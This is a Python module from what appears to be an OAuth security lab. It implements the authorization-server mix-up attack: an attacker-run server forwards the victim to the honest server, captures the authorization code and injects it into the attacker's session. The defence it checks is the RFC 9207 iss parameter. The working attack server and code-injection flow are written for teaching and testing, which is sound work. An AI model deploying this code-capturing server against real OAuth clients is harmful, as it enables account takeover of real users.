"""Attack 5: mix-up between two authorization servers, one of them the attacker's.

RFC 9700 4.4.1, the code grant variant: the client works with an honest server
(H-AS) and with the attacker's (A-AS), and uses one redirect URI for both.

    victim's browser         client                 A-AS (attacker)        H-AS (honest)
      | "sign in with A" ---->| state S_v, to A-AS      |                      |
      |<--- 302 A-AS/authorize?state=S_v ---------------|                      |
      |---------------------------------------------->  | 303 to H-AS/authorize, the
      |                                                 | attacker's own request with state S_v
      |----------------------------------------------------------------------> | login, consent
      |<-------------------------------- 302 redirect_uri?code&state=S_v[&iss=H-AS]
      |------ callback ------->| thinks: from A-AS       |                      |
      |                        |--- POST A-AS/token code ->  the attacker has the code
      |                 the attacker injects it into her own session at the client (H-AS)

RFC 9207: the honest server names itself in `iss`; the client compares it with
the server the session started with and drops the response (RFC 9207 2.4).
Lab switch: `no_iss` (on the honest server).
"""

from __future__ import annotations

import contextlib
import threading
from urllib.parse import parse_qsl, urlencode, urlsplit, urlunsplit

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route

from ..client import (
    Flow,
    IssuerMismatch,
    OAuthResponseError,
    discover,
    new_client,
    register_client,
)
from ..runner import BackgroundServer, bind_socket, issuer_for
from ..server import ServerConfig, Store
from ..server.switches import SWITCHES
from ._steps import code_from, forged_callback, params_of, redeem_planted, sign_in, whose
from .registry import attack_on
from .result import AttackResult, Lesson
from .scenario import Target, TargetLike, as_target

ATTACKER_CLIENT_ID = "666RVZJTA"  # RFC 9700 4.4.1's example id at the attacker's server


class MaliciousServer(BackgroundServer):
    """The attacker's authorization server: it bounces browsers to the honest one, keeps codes.

    `forward_to` is the honest server's authorization URL the attacker wants the
    victim to open; `captured` holds every token request the server received.
    It starts with `start()` or a `with` block, and stops as any `BackgroundServer`.
    """

    def __init__(self, host: str = "127.0.0.1") -> None:
        sock = bind_socket(host, 0)
        self.forward_to: str | None = None
        self.captured: list[dict[str, str]] = []
        self._capture_lock = threading.Lock()
        app = Starlette(
            routes=[
                Route("/.well-known/oauth-authorization-server", self._metadata),
                Route("/register", self._register, methods=["POST"]),
                Route("/authorize", self._authorize),
                Route("/token", self._token, methods=["POST"]),
            ]
        )
        config = ServerConfig(issuer=issuer_for(host, sock.getsockname()[1]))
        app.state.config = config  # BackgroundServer reads these two
        app.state.store = Store(config)
        super().__init__(sock, app)

    def __enter__(self) -> MaliciousServer:
        self.start()
        return self

    def __repr__(self) -> str:
        return f"<MaliciousServer {self.url}: the attacker's authorization server>"

    async def _metadata(self, request: Request) -> Response:
        return JSONResponse(
            {
                "issuer": self.url,
                "authorization_endpoint": self.url + "/authorize",
                "token_endpoint": self.url + "/token",
                "registration_endpoint": self.url + "/register",
                "response_types_supported": ["code"],
                "code_challenge_methods_supported": ["S256"],
                # says nothing about iss, so a client cannot expect it from here
                "authorization_response_iss_parameter_supported": False,
            }
        )

    async def _register(self, request: Request) -> Response:
        metadata = await request.json()
        return JSONResponse(
            {
                "client_id": ATTACKER_CLIENT_ID,
                "client_secret": "the-attacker-knows-this-one",
                "client_id_issued_at": 0,
                "client_secret_expires_at": 0,
                "client_name": metadata.get("client_name", "Application"),
                "redirect_uris": metadata.get("redirect_uris", []),
                "grant_types": ["authorization_code"],
                "token_endpoint_auth_method": "client_secret_basic",
            },
            status_code=201,
        )

    async def _authorize(self, request: Request) -> Response:
        if self.forward_to is None:
            return PlainTextResponse("Nothing to forward to yet.", status_code=400)
        # the honest server's request, with the state of the victim's session at the client
        parts = urlsplit(self.forward_to)
        query = [(k, v) for k, v in parse_qsl(parts.query) if k != "state"]
        query.append(("state", request.query_params.get("state", "")))
        target = urlunsplit(parts._replace(query=urlencode(query)))
        return RedirectResponse(target, status_code=303)

    async def _token(self, request: Request) -> Response:
        form = dict(parse_qsl((await request.body()).decode("utf-8", "replace")))
        with self._capture_lock:
            self.captured.append(form)
        return JSONResponse(
            {"error": "temporarily_unavailable", "error_description": "Please try again."},
            status_code=400,
        )


@attack_on("no_iss")
def mix_up(target: TargetLike, malicious: MaliciousServer | None = None) -> AttackResult:
    """Run the mix-up against `target` (the honest server) with `malicious` as A-AS.

    Without `malicious`, one is started for the attack and stopped after it.
    """
    t = as_target(target)
    if malicious is not None:
        return _mix_up(t, malicious)
    evil = MaliciousServer().__enter__()
    try:
        return _mix_up(t, evil)
    finally:
        # stopping waits for uvicorn's next tick (about 0.2 s, half the checklist's time):
        # nothing waits for this server, so it stops on its own thread
        threading.Thread(target=evil.stop, name=f"stop {evil.url}", daemon=True).start()


def _mix_up(target: Target, evil: MaliciousServer) -> AttackResult:
    honest_app = target.register()
    with new_client(target.verify) as http:
        evil_endpoints = discover(evil.url, http=http)
        evil_app = register_client(
            evil_endpoints,
            client_name="Photo Importer",
            redirect_uris=[honest_app.redirect_uri or target.redirect_uri],
            http=http,
        )
    steps = [
        f"the client works with two servers: {target.issuer} (honest) and {evil.url} (the "
        "attacker's, where it registered dynamically), with one redirect URI for both"
    ]
    with target.flow(honest_app) as attacker_session:
        attacker_request = attacker_session.authorize()
        evil.forward_to = attacker_request.url
        steps.append(
            f"{target.attacker.username} starts a session at the client with the honest "
            "server, and keeps its authorization request (and so its PKCE challenge)"
        )
        victim_session = Flow(
            evil_endpoints,
            application=evil_app,
            redirect_uri=honest_app.redirect_uri or target.redirect_uri,
            verify=target.verify,
            token_factory=target.token_factory,
        )
        with victim_session:
            victim_request = victim_session.authorize()
            steps.append(
                f"{target.victim.username} chooses the attacker's server at the client "
                f"(state {victim_request.state}); that server bounces her browser to the honest "
                "server with the attacker's request and her state"
            )
            page = sign_in(victim_session.browser, victim_request.url, target.victim)
            code = code_from(page, attacker_request.url)
            iss = params_of(page.location).get("iss")
            steps.append(
                f"she signs in at the honest server and approves; the callback carries code "
                f"{code} and {'iss=' + iss if iss else 'no iss'}"
            )
            try:
                victim_session.receive_redirect()
            except IssuerMismatch as exc:
                steps.append("the client compares iss with the server this session chose")
                return MIX_UP.result(
                    False,
                    "The client dropped the response: iss names the honest server, but this "
                    f"session talked to the attacker's. {exc}",
                    steps,
                    {"iss in the response": iss, "server the session chose": evil.url},
                    reason=f"The callback carried iss={iss}, while the victim's session had "
                    f"chosen the attacker's server {evil.url}: the client dropped it before "
                    "its code went anywhere.",
                )
            # the attacker's token endpoint answers an error: the code is gone anyway
            with contextlib.suppress(OAuthResponseError):
                victim_session.exchange_code()
        captured = evil.captured[-1].get("code") if evil.captured else None
        steps.append(
            f"the client sends the code to the attacker's token endpoint: captured {captured}"
        )
        if captured is None:
            return MIX_UP.result(
                False,
                "The client did not send the code to the attacker's server.",
                steps,
                reason=f"The callback carried {'iss=' + iss if iss else 'no iss'}, and the "
                f"client sent no code to the attacker's token endpoint at {evil.url}.",
            )
        forged = forged_callback(
            attacker_request.redirect_uri or target.redirect_uri,
            captured,
            attacker_request.state,
            iss,
        )
        outcome = redeem_planted(attacker_session, forged)
        if isinstance(outcome, OAuthResponseError):
            steps.append(f"{target.attacker.username} injects it into her session: refused")
            return MIX_UP.result(
                False,
                f"The code reached the attacker, but the honest server refused it: {outcome}",
                steps,
                {"captured code": captured},
                reason=f"The callback carried {'iss=' + iss if iss else 'no iss'}; the code "
                f"reached the attacker's server, but the honest one refused it in her "
                f"session: {outcome.error}.",
            )
    owner = whose(target, honest_app, outcome)
    steps.append(
        f"{target.attacker.username} injects it into her own session, whose PKCE challenge it "
        f"carries; the client redeems it and her session opens {owner}'s account"
    )
    return MIX_UP.result(
        True,
        f"The attacker's server received a code of the honest server, and the attacker's "
        f"session now works on {owner}'s account. Without iss the client could not tell "
        "which server answered.",
        steps,
        {"captured code": captured, "iss in the response": iss or "(none)", "account": owner},
        reason=f"The callback carried {'iss=' + iss if iss else 'no iss'}, so the client "
        f"could not tell the servers apart: it sent code {captured} to {evil.url}, and the "
        f"attacker's session redeemed it at the honest server (the account it opens: {owner}).",
    )


MIX_UP = Lesson(
    "Mix-up",
    SWITCHES["no_iss"].source,
    "The server names itself in iss in every authorization response, and the client "
    "refuses a response whose iss is not the server its session started with.",
)
